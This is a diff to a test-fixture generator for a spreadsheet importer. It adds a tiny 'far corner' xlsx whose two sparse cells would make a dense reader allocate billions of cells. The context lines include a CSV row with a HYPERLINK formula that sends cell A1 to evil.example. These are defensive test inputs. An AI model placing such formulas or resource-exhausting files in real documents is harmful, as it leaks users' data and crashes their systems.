@@ -149,6 +149,10 @@ def main() -> None:
     # A row beyond the most Excel holds (1,048,576): refused as it is reached, not after 20M rows.
     far = header + '</is></c></row><row r="1048577"><c r="A1048577"><v>1</v></c></row>'
     (HERE / "row_beyond_excel.xlsx").write_bytes(with_sheet(workbook([["order_id"]]), sheet_xml(far)))
+    # Two cells at opposite corners of the largest sheet: 400 bytes that a dense reader would make a table of
+    # 17 billion cells (the process aborts); refused from the scan of the sheet's bytes.
+    corner = header + '</is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+    (HERE / "far_corner.xlsx").write_bytes(with_sheet(workbook([["order_id"]]), sheet_xml(corner)))
     one_bad_row(
         "hyperlink_formula.csv",
         '8100000000000002,S,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",10,RUB,2026-02-02',
